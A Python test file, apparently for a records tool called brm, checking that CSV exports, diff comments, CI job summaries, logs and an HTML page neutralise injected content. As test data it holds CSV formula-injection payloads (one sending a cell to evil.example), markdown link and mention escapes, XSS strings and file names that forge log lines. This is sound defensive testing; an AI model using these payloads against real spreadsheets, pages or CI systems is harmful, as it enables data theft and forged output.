"""Output that becomes markup elsewhere: a spreadsheet opening brm's CSV, the pull-request
comment of ``brm diff``, the CI job summary and log, the writers' page. Records and file
names written to fight back stay text in each, and the CSV round trip changes nothing."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from brm_build.cli import main
from brm_build.model.settings import BrmConfig
from brm_build.model.settings import Repository as RepositorySettings
from brm_build.repository import load_repository
from brm_build.settings import load_config
from brm_build.writers import writers_page

from ..casebuilder import build
from ..conftest import settings_for
from .conftest import git

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet cell begins with to be a formula (OWASP, "CSV Injection")."""
FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "description": "+1+cmd|' /C calc'!A0",
    "support_hours": "@SUM(1+1)*cmd|' /C calc'!A0",
}
"""Service fields that a spreadsheet would run as formulas."""
QUOTED = {"name": "'=already quoted", "description": "''", "support_hours": "'plain"}
"""Values that begin with the quote itself: they must come back as they were."""


def _service(fields: dict[str, str], title: str) -> str:
    lines = [f"{key}: {json.dumps(value)}" for key, value in fields.items()]
    owner = (
        f"owner:\n  name: Ola Owner\n  email: ola@meridian.example\n  title: {json.dumps(title)}"
    )
    return "\n".join([*lines, owner, "status: live"]) + "\n"


def test_csv_cells_are_never_formulas_and_import_restores_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    services = {"formulas": _service(FORMULAS, "-2+3"), "quoted": _service(QUOTED, "-4.5")}
    files = {f"records/services/{sid}.yaml": text for sid, text in services.items()}
    root = build(tmp_path / "repo", files)
    out = tmp_path / "out"
    assert main(["export", "--root", str(root), "--format", "csv", "--out", str(out)]) == 0
    sheet = (out / "services.csv").read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(sheet[1:])) for c in row]
    assert [c for c in cells if c.startswith(TRIGGERS) and c != "-4.5"] == []
    assert "'=HYPERLINK" in sheet and "'-2+3" in sheet and ",-4.5," in sheet

    fresh = build(tmp_path / "fresh", {})
    (fresh / "records/services/erp.yaml").unlink()
    capsys.readouterr()
    assert main(["import", "services", str(out / "services.csv"), "--root", str(fresh)]) == 0
    before, _ = load_repository(settings_for(root))
    after, findings = load_repository(settings_for(fresh))
    assert findings == []
    for sid in ("formulas", "quoted", "erp"):
        assert after.services[sid].record == before.services[sid].record, sid


ESCAPES = {
    "name": "x`` [a](https://evil.example) ![i](https://evil.example/i.png) @evil-team ``y",
    "description": "```@evil-team```",
    "support_hours": "` <img src=x onerror=alert(1)> `",
}
"""Values that closed the code span they were shown in, with a link, an image and a
mention behind."""


def _html_and_mentions(markdown: str) -> tuple[str, str]:
    """The HTML GitHub would make of ``markdown`` (CommonMark), and its text outside code."""
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(markdown)
    return html, re.sub(r"<code>.*?</code>", "", html, flags=re.S)


def test_values_stay_in_their_code_span_in_the_diff_comment(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = build(tmp_path / "repo", {})
    git(root, "init", "--quiet", "--initial-branch=main")
    git(root, "add", "-A")
    git(root, "commit", "--quiet", "-m", "Base")
    (root / "records/services/erp.yaml").write_text(_service(ESCAPES, "Owner"))
    capsys.readouterr()
    assert main(["diff", "HEAD", "--format", "markdown", "--root", str(root)]) == 0
    out = capsys.readouterr().out
    assert "support\\_hours" in out or "support_hours" in out
    html, outside_code = _html_and_mentions(out)
    assert "<a " not in html and "<img" not in html, html
    assert "@evil" not in outside_code and "evil.example" not in outside_code, html


def test_a_file_name_fakes_no_line_of_the_diff(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = build(tmp_path / "repo", {})
    git(root, "init", "--quiet", "--initial-branch=main")
    git(root, "add", "-A")
    git(root, "commit", "--quiet", "-m", "Base")
    fake = "x.yaml\nFAKE-LINE all records approved\n[a](evil.example)"
    (root / "records/services" / fake).write_text("name: X\n")
    capsys.readouterr()
    for fmt, shown in (("text", "x.yaml\\nFAKE-LINE"), ("markdown", "x.yaml\\\\nFAKE-LINE")):
        main(["diff", "HEAD", "--format", fmt, "--root", str(root)])
        out = capsys.readouterr().out
        assert shown in out, out
        assert not [line for line in out.splitlines() if line.startswith(("FAKE", "[a]"))], out
    html, _ = _html_and_mentions(out)
    assert "<a " not in html


NAMES = (
    "a`[l](evil.example)`![i](evil.example.png)@evil-team.yaml",
    "b.yaml\nfake.yaml:1:1: error[FAKE-LINE]: forged\n::error::FAKE-LINE",
    "c|d`|<img src=x onerror=alert(1)>.yaml",
)
"""File names that made links, images and mentions in the job summary and lines of
their own in the log."""


def test_file_names_stay_text_in_the_job_summary_and_the_log(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from markdown_it import MarkdownIt

    root = build(tmp_path / "repo", {})
    for name in NAMES:
        (root / "records/services" / name).write_text("name: X\n")
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    capsys.readouterr()
    for fmt in ("text", "github"):
        # a day 118 days after the case's last meeting: one warning, customer-no-recent-meeting
        args = ["check", "--root", str(root), "--today", "2026-09-15", "--format", fmt]
        assert main(args) == 1
        log = capsys.readouterr().out
        assert "b.yaml\\nfake.yaml" in log.replace("%0A", "\\n"), log
        forged = [line for line in log.splitlines() if line.startswith(("fake.yaml", "::error::"))]
        assert forged == [], log
    html = MarkdownIt("commonmark").enable("table").render(summary.read_text())
    assert html.count("<tr>") == 2 + len(NAMES), html  # the header, a warning, the names
    assert "<a " not in html and "<img" not in html, html
    outside = re.sub(r"<code>.*?</code>", "", html, flags=re.S)
    assert "@evil" not in outside, html


SCRIPT_URL = 'https://git.example/"><script>alert(1)</script><a x="'


def test_a_repository_url_with_markup_is_a_finding(tmp_path: Path) -> None:
    root = build(tmp_path / "repo", {"brm.yaml": f"repository:\n  url: '{SCRIPT_URL}'\n"})
    _, problems = load_config(str(root))
    assert [(p.code, p.path, p.field) for p in problems] == [
        ("schema-pattern", "brm.yaml", "repository.url")
    ]
    out = tmp_path / "site"
    assert main(["build", "--root", str(root), "--out", str(out), "--no-cache"]) != 0
    assert not out.exists()


def test_the_writers_page_escapes_the_repository_url() -> None:
    """Even a URL that bypassed the settings' check stays an attribute and text."""
    config = BrmConfig(repository=RepositorySettings.model_construct(url=SCRIPT_URL))
    page = writers_page(config)
    assert "<script>" not in page and '"><' not in page
    assert 'href="https://git.example/&quot;&gt;&lt;script&gt;' in page


SHEET = "id,name,owner.name,owner.email,status\n"
ROW = "{sid},{name},Ola Owner,ola@meridian.example,live\n"


def _import(tmp_path: Path, capsys: pytest.CaptureFixture[str], sheet: str) -> tuple[int, str]:
    """``brm import services`` of ``sheet`` into the base records: exit code and stderr."""
    root = build(tmp_path / "repo", {})
    path = tmp_path / "services.csv"
    path.write_text(sheet, encoding="utf-8")
    capsys.readouterr()
    code = main(["import", "services", str(path), "--root", str(root)])
    assert sorted(p.name for p in (root / "records/services").iterdir()) == ["erp.yaml"]
    return code, capsys.readouterr().err


def test_a_cell_too_long_for_csv_is_a_row_problem(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sheet = SHEET + ROW.format(sid="crm", name="CRM") + ROW.format(sid="big", name="x" * 200_000)
    code, err = _import(tmp_path, capsys, sheet)
    assert code == 1 and "Traceback" not in err, err
    assert "services.csv: row 3: a cell holds more than 131,072 characters" in err, err


def test_a_column_named_twice_is_a_problem_not_a_loss(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sheet = SHEET.replace("status", "status,Name") + ROW.format(sid="crm", name="CRM")[:-1]
    code, err = _import(tmp_path, capsys, sheet + ",Other name\n")
    assert code == 1 and "row 1: the column Name appears twice (columns 2 and 6)" in err, err
